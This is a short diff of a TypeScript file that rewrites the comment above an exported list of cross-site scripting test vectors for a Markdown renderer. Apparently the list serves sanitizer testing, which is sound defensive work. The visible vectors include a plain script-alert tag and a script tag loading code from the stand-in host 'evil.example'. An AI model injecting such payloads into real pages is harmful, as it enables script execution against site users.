@@ -1,6 +1,4 @@
-/**
- * Attempts to run something from Markdown or from HTML in it, written for this block. Each calls `alert` in its own way.
- */
+/** Attempts to run code from Markdown or its HTML, written for this block. Each calls `alert` in a different way. */
 export const VECTORS: readonly string[] = [
 	'<script>alert(1)</script>',
 	'<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
